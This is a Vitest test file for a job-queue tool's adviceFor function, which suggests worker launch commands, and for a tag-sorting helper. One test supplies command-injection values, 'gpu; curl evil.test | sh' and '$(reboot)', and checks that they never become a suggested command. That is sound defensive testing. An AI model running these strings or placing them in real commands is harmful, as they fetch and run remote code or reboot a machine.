import { describe, expect, test } from "vitest";
import { adviceFor } from "./demand-advice.ts";
import { sortTags } from "./sort-tags.ts";

const worker = {
  status: "active" as const,
  queues: ["default"],
  tags: ["lang:bash", "isolation:process", "big"],
};

describe("what to do about tasks that no worker can take", () => {
  test("a worker, when there is none, or none that takes anything", () => {
    const stopped = { ...worker, status: "draining" as const };
    const demand = { queue: "default", tags: ["lang:bash"] };
    expect(adviceFor(demand, [stopped]).command).toBe("stratal worker");
  });

  test("a worker for a queue that nobody takes from, with the tags that are settings", () => {
    const demand = { queue: "reports", tags: ["lang:bash", "gpu"] };
    expect(adviceFor(demand, [worker]).command).toBe(
      "STRATAL_WORKER_QUEUES=reports STRATAL_WORKER_TAGS=gpu stratal worker",
    );
  });

  test("a worker with the tag that is missing", () => {
    const advice = adviceFor({ queue: "default", tags: ["gpu"] }, [worker]);
    expect(advice.command).toBe("STRATAL_WORKER_TAGS=gpu stratal worker");
  });

  test("an interpreter, for a language that no worker has", () => {
    const advice = adviceFor({ queue: "default", tags: ["lang:ruby"] }, [worker]);
    expect(advice.text).toContain("Install ruby");
    expect(advice.command).toBeNull();
  });

  test("a look at the machine, for an isolation that no worker has", () => {
    const advice = adviceFor({ queue: "default", tags: ["isolation:namespaces"] }, [worker]);
    expect(advice.command).toBe("stratal worker --isolation-report");
  });

  test.each([
    { queue: "default", tags: ["lang:bash", "gpu; curl evil.test | sh"] },
    { queue: "$(reboot)", tags: ["gpu"] },
  ])("no command, for names that no worker can offer and a shell would run: %o", (demand) => {
    expect(adviceFor(demand, []).command).toBeNull();
    expect(adviceFor(demand, [worker]).command).toBeNull();
    expect(adviceFor(demand, [worker]).text).toMatch(/No worker can offer “(gpu; curl|\$\(reboot)/);
  });

  test("one worker that has all tags, when they are spread over several", () => {
    const gpu = { ...worker, tags: ["lang:bash", "gpu"] };
    const advice = adviceFor({ queue: "default", tags: ["gpu", "big"] }, [worker, gpu]);
    expect(advice.text).toContain("all of them");
    expect(advice.command).toBe("STRATAL_WORKER_TAGS=gpu,big stratal worker");
  });
});

test("tells the tags that a worker found out by itself from its own", () => {
  const tags = ["lang:bash", "gpu", "isolation:process", "limits:memory", "zone:b"];
  expect(sortTags(tags)).toEqual({
    languages: ["bash"],
    limits: ["memory"],
    own: ["gpu", "zone:b"],
  });
});
